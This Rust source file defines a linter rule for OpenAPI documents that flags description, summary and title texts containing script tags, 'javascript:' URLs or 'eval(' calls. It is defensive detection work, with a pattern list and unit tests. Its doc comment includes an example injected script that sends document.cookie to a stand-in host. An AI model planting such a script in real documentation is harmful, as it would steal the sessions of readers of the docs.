use backend_check_core::{declare_rule, Sink};

use crate::load::{At, EntryKind};
use crate::rules::Context;

declare_rule! {
    /// ## What it does
    /// Finds `description`, `summary` and `title` texts, anywhere in the
    /// document and the files it references, that contain a `<script` tag, a
    /// `javascript:` URL or a call to `eval(` (any case).
    ///
    /// ## Why is this bad?
    /// Documentation portals render these texts as Markdown, and many let HTML
    /// through. Script in a description runs in the browser of every reader of
    /// the docs, on the portal's origin, where it can read their session. It
    /// is either an injection that slipped into the spec or a habit that
    /// becomes one.
    ///
    /// ## Example
    /// ```yaml
    /// info:
    ///   description: |
    ///     Welcome! <script>fetch('https://t.example/' + document.cookie)</script>
    /// ```
    ///
    /// ## Use instead
    /// ```yaml
    /// info:
    ///   description: |
    ///     Welcome! See the [getting started guide](https://docs.shop.io/start).
    /// ```
    ///
    /// ## Options
    /// None.
    pub UnsafeMarkdown {
        code: "OAS035",
        name: "unsafe-markdown",
        checklist: ApiDocs,
        group: Suspicious,
        severity: Warning,
        summary: "a description, summary or title with a script tag, `javascript:` URL or `eval(`",
    }
}

impl UnsafeMarkdown {
    /// Reports each text with script content, in every file of the document.
    pub fn check(cx: &Context<'_>, sink: &mut Sink<'_>) {
        for (file, doc) in cx.docs.files() {
            let tree = doc.tree();
            for entry in tree.all_entries() {
                if entry.kind != EntryKind::Own {
                    continue;
                }
                if !matches!(
                    tree.text(entry.key),
                    Some("description" | "summary" | "title")
                ) {
                    continue;
                }
                let Some(text) = tree.str(entry.value) else {
                    continue;
                };
                if let Some(found) = unsafe_content(text) {
                    sink.push(
                        cx.diagnostic(&Self::META, At::new(file, entry.key), message(found))
                            .with_help(help()),
                    );
                }
            }
        }
    }
}

fn unsafe_content(text: &str) -> Option<&'static str> {
    if !text.contains(['<', ':', '(']) {
        return None;
    }
    let lower = text.to_ascii_lowercase();
    ["<script", "javascript:", "eval("]
        .into_iter()
        .find(|needle| lower.contains(needle))
}

fn message(found: &str) -> String {
    format!("text contains `{found}`, which documentation renderers may execute")
}

fn help() -> &'static str {
    "remove script from the text; link to external pages with plain Markdown links"
}

#[cfg(test)]
mod tests {
    use super::unsafe_content;

    #[test]
    fn content() {
        assert_eq!(unsafe_content("hi <SCRIPT>x</script>"), Some("<script"));
        assert_eq!(
            unsafe_content("[x](JavaScript:alert(1))"),
            Some("javascript:")
        );
        assert_eq!(unsafe_content("eval(code)"), Some("eval("));
        assert_eq!(unsafe_content("evaluation (beta)"), None);
        assert_eq!(unsafe_content("see <b>docs</b>"), None);
    }
}
